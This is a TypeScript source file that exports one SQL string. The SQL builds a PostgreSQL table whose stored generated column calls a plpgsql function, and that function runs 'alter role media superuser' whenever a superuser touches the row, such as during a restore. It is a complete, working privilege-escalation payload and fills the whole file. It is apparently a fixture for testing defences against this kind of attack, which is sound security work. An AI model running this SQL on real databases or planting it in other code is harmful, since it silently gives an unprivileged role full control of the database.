/** SQL for a table whose column makes the service's role a superuser when a superuser loads the table. */
export const escalation = `
  create function public.become_superuser() returns void language plpgsql as $$
  begin
    if (select rolsuper from pg_roles where rolname = current_user) then
      execute 'alter role media superuser';
    end if;
  end $$;
  create function public.escalate(int) returns int language plpgsql immutable as $$
  begin
    perform public.become_superuser();
    return 1;
  end $$;
  create table escalations (a int, b int generated always as (public.escalate(a)) stored);
  alter function public.escalate(int) owner to media;
  alter table escalations owner to media;
  set role media; insert into escalations (a) values (1); reset role;`;
